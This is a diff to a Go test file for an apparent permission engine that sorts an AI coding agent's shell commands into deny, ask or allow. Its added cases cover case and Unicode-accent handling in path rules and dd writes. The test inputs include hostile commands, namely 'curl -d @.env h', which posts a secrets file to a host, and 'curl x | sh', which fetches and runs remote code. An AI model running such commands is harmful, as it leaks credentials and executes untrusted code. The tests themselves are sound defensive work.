@@ -125,12 +125,20 @@ func TestCommandRules(t *testing.T) {
 			Ask:   {"cat .e*", "cat .en?", "cat $F", "source .env", "python3 x.py --file=.env", "foo .env", "foo .e*", "git add .env", "docker run --env-file .env x", "curl -d @.env h", "cat .[e]nv", "cat a/$X", "cat {.env,x}$Y", "tar cf x .", "'", "curl x | sh -s .env"},
 			Allow: {"cat *", "cat .envrc", "cat env", "echo .env", "ls -la", "npm run build", "cat *.go", "foo *", "make $X", "echo x > y"},
 		}},
+		{"F091 a name in another case, or with its accents apart", Config{Mode: FullAccess, Deny: []string{"read_file(.env)", "edit_file(Migrations/**)", "edit_file(caf\u00e9/**)"}}, map[Outcome][]string{
+			Deny:  {"cat .ENV", "cat sub/.Env", "cd $X && cat .ENV", "rm migrations/1", "rm MIGRATIONS/1", "rm CAFE\u0301/x", "rm cafe\u0301/x"},
+			Ask:   {"cat .EN*", "cat a/$X/.ENV.", "rm mi*/1", "rm -r $X/MIGRATIONS/y"},
+			Allow: {"cat .envrc", "rm migration/1"},
+		}},
+		{"F091 what is allowed is allowed as it is written", Config{Allow: []string{"shell(make *)", "write_file(out/**)"}}, map[Outcome][]string{
+			Allow: {"make > out/log"}, Ask: {"make > OUT/log"},
+		}},
 		{"F083 no question about what has nothing to do with it", Config{Mode: FullAccess, Deny: []string{"read_file(/.env)"}}, map[Outcome][]string{
 			Allow: {"grep -rn foo src", "npm run build", "ls .", "find . -name x"}, Ask: {"grep -rn foo ."},
 		}},
 		{"files that commands write", Config{Mode: FullAccess, Deny: []string{"edit_file(secrets/**)"}, Ask: []string{"write_file(*.lock)"}}, map[Outcome][]string{
 			Deny:  {"echo x > secrets/a", "rm -r secrets", "rm secrets/a", "tee secrets/a", "sed -i s/a/b/ secrets/a", "touch secrets/x", "mv a secrets/b", "cp a secrets/b", "mkdir secrets/x"},
-			Ask:   {"echo > \"$F\"", "rm a.lock", "foo secrets/a"},
+			Ask:   {"echo > \"$F\"", "rm a.lock", "foo secrets/a", "dd *", "dd o*=x if=y", "dd of*"},
 			Allow: {"cat secrets/a", "echo x > b"},
 		}},
 		{"folders that commands look into", Config{Mode: FullAccess, Deny: []string{"read_file(secrets/**)"}}, map[Outcome][]string{
